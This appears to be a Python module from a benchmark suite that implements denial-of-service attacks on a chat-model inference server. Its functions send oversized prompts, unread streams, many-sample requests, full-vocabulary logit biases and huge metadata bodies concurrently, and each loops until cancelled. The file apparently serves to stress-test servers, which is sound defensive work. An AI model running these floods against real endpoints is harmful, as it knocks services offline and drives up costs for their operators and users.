"""What somebody does who has one ordinary key. Each goes on until it is cancelled."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Coroutine
from contextlib import suppress

from benchmarks.attacks.target import Target, says

_MEGABYTES = 8_000_000
#: Of the demonstration model: a bias beyond it is refused.
_VOCABULARY = 2048
_REST_S = 0.01


async def poisoned_estimates(target: Target) -> None:
    """Prompts of a thousand empty messages, beside an answer under way and a long prompt."""
    bodies = (
        target.chat([{"role": "user", "content": ""}] * 1000, max_tokens=1),
        target.chat(says("Count from 1 to 20."), max_tokens=1500, ignore_eos=True),
        target.chat(says("a" * 60_000), max_tokens=1),
    )
    await _at_once(len(bodies), lambda number: target.post(bodies[number]))


async def endless_prompts(target: Target) -> None:
    """Twenty-four prompts of 8 MB at once."""
    body = target.chat(says("a" * _MEGABYTES))
    await _at_once(24, lambda _: target.post(body))


async def waiting_prompts(target: Target) -> None:
    """A hundred and twenty large prompts that fill the queue."""
    body = target.chat(says("word " * (_MEGABYTES // 5)), max_tokens=1)
    await _at_once(120, lambda _: target.post(body))


async def empty_objects(target: Target) -> None:
    """Bodies that are 8 MB of empty objects in a field that nobody needs."""
    body = target.chat(says("hi"), metadata={"a": [{}] * 2_790_000})
    await _at_once(8, lambda _: target.post(body))


async def slow_readers(target: Target) -> None:
    """Two hundred streams of which nothing is read."""
    body = target.chat(says("Count from 1 to 20."), stream=True, ignore_eos=True, max_tokens=1500)
    await _at_once(200, lambda _: target.post(body, read=False))


async def many_samples(target: Target) -> None:
    """Two requests of 128 samples each, as long as may be."""
    body = target.chat(says("Count from 1 to 20."), ignore_eos=True, n=128)
    await _at_once(2, lambda _: target.post(body))


async def many_requests(target: Target) -> None:
    """Two hundred long requests at once."""
    body = target.chat(says("Count from 1 to 20."), ignore_eos=True)
    await _at_once(200, lambda _: target.post(body))


async def costly_sampling(target: Target) -> None:
    """Thirty sequences with a bias on every token of the demonstration model, and more."""
    bias = {str(token): 1e-9 for token in range(_VOCABULARY)}
    body = target.chat(
        says("Count from 1 to 20."),
        n=30,
        ignore_eos=True,
        max_tokens=1500,
        logit_bias=bias,
        logprobs=True,
        top_logprobs=20,
        frequency_penalty=0.1,
        top_p=0.9,
    )
    await _at_once(1, lambda _: target.post(body))


async def _at_once(count: int, attack: Callable[[int], Coroutine[None, None, None]]) -> None:
    async def again(number: int) -> None:
        while True:
            with suppress(OSError):
                await attack(number)
            await asyncio.sleep(_REST_S)

    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(again(number))
